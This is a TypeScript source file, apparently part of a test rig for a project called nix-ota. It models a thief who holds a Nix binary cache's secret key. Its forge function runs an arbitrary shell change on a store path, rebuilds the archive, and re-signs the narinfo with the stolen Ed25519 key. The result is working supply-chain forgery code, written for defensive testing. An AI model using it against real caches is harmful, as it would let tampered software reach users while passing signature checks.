/** What someone who has stolen the secret key of a binary cache can do: serve other content, properly signed. */

import {
  type Bytes,
  concatBytes,
  encodeUtf8,
  formatBase64,
  parseBase64,
  sha256,
  type Signer,
  signerFromPkcs8,
} from "@nix-ota/common";
import { formatNix32 } from "../../publisher/nix32.ts";
import { outputOf } from "../../tools/run_command.ts";
import type { CacheKey, CiMachine } from "../rig/ci_machine.ts";

/** A change to one path of a cache. */
export type Forgery = {
  /** The store path that gets other content. */
  path: string;
  /** Shell that changes a copy of the path, which is its working directory; nothing unless told. */
  change?: string;
  /** Gives the path other references, as base names; the same unless told. */
  references?: (references: readonly string[]) => readonly string[];
};

/** PKCS#8 around the 32 bytes of an Ed25519 seed (RFC 8410 section 7). */
const PKCS8_PREFIX = Uint8Array.from([0x30, 0x2e, 2, 1, 0, 0x30, 5, 6, 3, 0x2b, 0x65, 0x70, 4, 0x22, 4, 0x20]);
const SEED_BYTES = 32;

/** Replaces what a cache serves for a path, under a signature of the cache's own key. */
export async function forge(
  { ci, cacheDir, cacheKey }: { ci: CiMachine; cacheDir: string; cacheKey: CacheKey },
  { path, change = "true", references = (same) => same }: Forgery,
): Promise<void> {
  const nar = await changedNar(ci, path, change);
  const hash = formatNix32(await sha256(nar));
  const narinfoFile = `${cacheDir}/${path.slice("/nix/store/".length).split("-")[0]}.narinfo`;
  const fields = new Map(
    (await Deno.readTextFile(narinfoFile)).trim().split("\n").map((line) => {
      const colon = line.indexOf(":");
      return [line.slice(0, colon), line.slice(colon + 1).trim()];
    }),
  );
  const named = [...references((fields.get("References") ?? "").split(" ").filter(Boolean))].sort();
  const forged = {
    StorePath: path,
    URL: `nar/${hash}.nar`,
    Compression: "none",
    FileHash: `sha256:${hash}`,
    FileSize: nar.length,
    NarHash: `sha256:${hash}`,
    NarSize: nar.length,
    References: named.join(" "),
  };
  const fullReferences = named.map((name) => `/nix/store/${name}`).join(",");
  const fingerprint = `1;${path};${forged.NarHash};${forged.NarSize};${fullReferences}`;
  const { name, signer } = await cacheSigner(cacheKey);
  const signature = `${name}:${formatBase64(await signer.sign(encodeUtf8(fingerprint)))}`;
  const lines = Object.entries({ ...forged, Sig: signature }).map(([key, value]) => `${key}: ${value}\n`);
  await Deno.writeFile(`${cacheDir}/${forged.URL}`, nar);
  await Deno.writeTextFile(narinfoFile, lines.join(""));
}

/** The archive of a path after a change. */
async function changedNar(ci: CiMachine, path: string, change: string): Promise<Bytes> {
  const folder = await Deno.makeTempDir({ prefix: "nix-ota-thief-" });
  try {
    const script = 'cp -a "$1" "$2/tree"; chmod -R u+w "$2/tree"; cd "$2/tree"; eval "$3"; nix-store --dump . > ../nar';
    await ci.output(["sh", "-ec", script, "sh", path, folder, change]);
    return await Deno.readFile(`${folder}/nar`);
  } finally {
    await outputOf(["rm", "-rf", folder]);
  }
}

async function cacheSigner({ secretKey }: CacheKey): Promise<{ name: string; signer: Signer }> {
  const [name = "", encoded = ""] = secretKey.trim().split(":");
  const secret = parseBase64(encoded);
  if (secret === null) throw new Error("Cannot read the secret key of the cache");
  return { name, signer: await signerFromPkcs8(concatBytes(PKCS8_PREFIX, secret.slice(0, SEED_BYTES))) };
}
